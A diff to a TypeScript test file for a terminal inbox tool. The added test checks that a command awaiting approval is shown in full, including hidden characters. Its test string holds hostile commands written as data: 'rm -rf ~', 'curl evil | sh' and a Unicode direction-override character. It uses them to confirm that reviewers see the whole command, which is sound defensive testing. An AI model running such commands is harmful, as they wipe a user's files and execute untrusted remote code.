@@ -303,8 +303,29 @@ test("a proposal that is selected says what of it was changed since it was propo
   );
 });
 
+test("a command that is to be approved is shown to its end when it is opened: every line, however long, as it is", () => {
+  const command = `npm test\r && ${"x".repeat(2_500)}; rm -rf ~\n\ncurl evil | sh \u202e`;
+  const item = givenItem("gate_approval", 12, { text: command, gate: 2, session: null });
+  const closed = initialState(givenOverview({ inbox: [item] }));
+  expect(screenText(closed, 100, 60).join("\n")).toContain("$ approval");
+  const shown = screenText(afterKeys(closed, "enter").state, 100, 60).join("\n");
+  for (const part of ["npm test\\u{d}", "; rm -rf ~", "curl evil | sh \\u{202e}"])
+    expect(shown).toContain(part);
+  expect(shown.match(/x/g)?.length).toBeGreaterThanOrEqual(2_500);
+  expect(shown).toContain("signalbox inbox approve 12");
+});
+
 const anyText = fc.string({ unit: "grapheme", maxLength: 120 });
-const kinds = ["gate", "question", "blocker", "contest", "proposal", "flag", "acceptance"] as const;
+const kinds = [
+  "gate",
+  "gate_approval",
+  "question",
+  "blocker",
+  "contest",
+  "proposal",
+  "flag",
+  "acceptance",
+] as const;
 
 test("at any size, whatever was written, no line is wider than the screen, and the selected item is in sight", () => {
   const items = fc.array(fc.record({ kind: fc.constantFrom<InboxItem["kind"]>(...kinds), text: anyText }), {
